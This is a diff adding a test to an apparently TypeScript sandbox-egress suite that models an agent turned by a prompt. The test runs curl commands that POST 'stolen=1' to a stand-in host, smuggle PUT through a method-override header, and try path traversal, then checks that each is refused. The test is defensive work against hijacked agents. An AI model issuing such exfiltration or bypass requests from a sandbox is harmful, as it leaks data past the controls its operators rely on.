@@ -150,6 +150,25 @@ describe('a sandbox whose agent a prompt has turned, with brokered credentials',
     expect(world.outside.taken.length).toBe(before);
   });
 
+  it('reads from a host that a rule opens read only; what it sends there is refused, and the host sees nothing', async () => {
+    if (!curl) return skipTest('curl is not installed: apt-get install curl');
+    const host = `docs.example:${world.outside.port}`;
+    const { status } = await world.stack.user.fetch(`/api/v1/orgs/${world.stack.orgId}/egress-rules`, {
+      method: 'POST',
+      json: { host, action: 'allow', methods: ['GET', 'HEAD', 'OPTIONS'] },
+    });
+    expect(status).toBe(201);
+    expect(await sandbox(`curl -sS ${at('docs.example', '/page')}`)).toContain('"method":"GET","pathname":"/page"');
+    const before = world.outside.taken.length;
+    const said = await sandbox(
+      `curl -sS -X POST -d stolen=1 ${at('docs.example', '/page')}; curl -sS -H 'X-HTTP-Method-Override: PUT' ${at('docs.example', '/page')}; curl -sS --path-as-is ${at('docs.example', '/a/../b')}`,
+    );
+    expect(said.match(/egress\.request-refused/g)).toHaveLength(2);
+    expect(said).toContain('credential.request-refused');
+    expect(said).toContain('GET, HEAD, OPTIONS of every path (rule egr_');
+    expect(world.outside.taken.length).toBe(before);
+  });
+
   it('uses a reference in place of a key at its place alone', async () => {
     if (!curl) return skipTest('curl is not installed: apt-get install curl');
     // What prints it prints a mask, as with a value.
